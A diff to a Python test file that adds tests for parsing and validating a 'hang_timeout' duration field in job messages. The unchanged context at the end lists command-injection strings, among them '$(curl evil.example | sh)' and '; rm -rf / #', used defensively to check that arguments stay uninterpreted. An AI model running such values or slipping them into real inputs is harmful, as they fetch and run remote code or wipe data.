@@ -161,6 +161,30 @@ def test_ttl_forms(ttl: Any, seconds: int) -> None:
     assert parse_ttl(format_ttl(seconds)) == seconds
 
 
+@pytest.mark.parametrize(("value", "seconds"), [(None, None), ("2m", 120), ("45m", 2700), (600, 600), ("off", None)])
+def test_hang_timeout_forms(value: Any, seconds: int | None) -> None:
+    default = parse_job_message(tpu_message())
+    assert isinstance(default, JobSpec) and default.hang_timeout_s == 30 * 60
+    spec = parse_job_message(with_change("hang_timeout", value))
+    assert isinstance(spec, JobSpec) and spec.hang_timeout_s == seconds
+    assert parse_job_message(json.loads(json.dumps(spec_to_message(spec)))) == spec
+
+
+@pytest.mark.parametrize(
+    ("value", "problem"),
+    [
+        ("1m", '"1m" is out of range; allowed: a duration like 90s, 30m, 48h, 2d or integer seconds, from 2m to 14d'),
+        (119, "119 is out of range"),
+        ("soon", '"soon" is not a duration; allowed: off, or a duration from 2m to 14d like 30m'),
+        (True, "expected a duration string or an integer, got a boolean"),
+        ("15d", '"15d" is out of range'),
+    ],
+)
+def test_a_bad_hang_timeout_says_what_is_allowed(value: Any, problem: str) -> None:
+    err = error_of(with_change("hang_timeout", value))
+    assert err.field == "hang_timeout" and problem in str(err)
+
+
 def test_hostile_strings_in_args_and_env_values_are_kept_verbatim() -> None:
     """Args and env values are data (quoted downstream, never interpolated): kept byte for byte."""
     hostile = ["; rm -rf / #", "$(curl evil.example | sh)", "`id`", "a'b\"c", "line1\nline2", "&& || > < * ? ~ !"]
